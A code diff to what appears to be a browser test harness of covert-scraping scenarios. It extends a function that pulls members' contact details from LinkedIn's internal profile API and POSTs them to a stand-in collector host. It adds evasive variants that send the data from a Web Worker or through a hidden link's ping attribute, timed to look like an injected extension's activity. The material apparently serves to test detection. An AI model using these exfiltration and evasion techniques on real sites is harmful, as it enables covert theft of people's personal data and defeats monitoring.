@@ -30,7 +30,8 @@
     return found.length;
   })()`;
 
-  async function harvest(fetchFn = fetch) {
+  /** The members' contact details, looked up through `fetchFn`. */
+  async function lookUp(fetchFn = fetch) {
     const found = [];
     for (const id of MEMBERS) {
       const res = await fetchFn(`https://www.linkedin.com/voyager/api/identity/profiles/${id}/profileContactInfo`, {
@@ -39,6 +40,11 @@
       });
       if (res.ok) found.push(await res.json());
     }
+    return found;
+  }
+
+  async function harvest(fetchFn = fetch) {
+    const found = await lookUp(fetchFn);
     await fetchFn('https://api.collector.test/v1/contacts', { method: 'POST', body: JSON.stringify(found) });
     return found.length;
   }
@@ -47,6 +53,11 @@
   const ready = () => new Promise((resolve) => (document.body ? resolve() : addEventListener('DOMContentLoaded', resolve, { once: true })));
   /** Waits for the string-run harvest to have reached the collector. */
   const settled = () => sleep(2500);
+  /** Resolves once an extension's own element is in the page (or after 3 s). */
+  const extensionUi = async () => {
+    await ready();
+    for (let waited = 0; waited < 3000 && !document.querySelector('img[src^="chrome-extension:"]'); waited += 100) await sleep(100);
+  };
   const panel = (html) => {
     const div = document.createElement('div');
     div.className = 'contact-finder-panel';
@@ -145,6 +156,33 @@
       const worker = new Worker(URL.createObjectURL(new Blob([HARVEST], { type: 'text/javascript' })));
       await settled();
       worker.terminate();
+    },
+    // Requests a worker makes reach the browser as the page's own, with no
+    // call in the page: made once an extension has put its UI into the
+    // page, so that "not the page's scripts" would point at it.
+    'worker once an extension has injected UI': async () => {
+      await extensionUi();
+      const worker = new Worker(URL.createObjectURL(new Blob([HARVEST], { type: 'text/javascript' })));
+      await settled();
+      worker.terminate();
+    },
+    // The harvest in plain sight, the upload as a link's `ping` (hyperlink
+    // auditing): the browser sends it with no call any hook sees.
+    'upload as a link ping once an extension has injected UI': async () => {
+      await extensionUi();
+      const found = await lookUp();
+      const emails = JSON.stringify(found).match(/[\w.+-]+@[\w-]+(?:\.[\w-]+)+/g) ?? [];
+      const sink = document.createElement('iframe');
+      sink.name = 'sink';
+      sink.hidden = true;
+      document.body.append(sink);
+      const link = document.createElement('a');
+      link.href = '/__pages/blank.html';
+      link.target = 'sink';
+      link.ping = `https://api.collector.test/v1/contacts?emails=${encodeURIComponent(emails.join(','))}`;
+      document.body.append(link);
+      link.click();
+      await sleep(1500);
     },
     'same-origin about:blank frame': async () => {
       await ready();
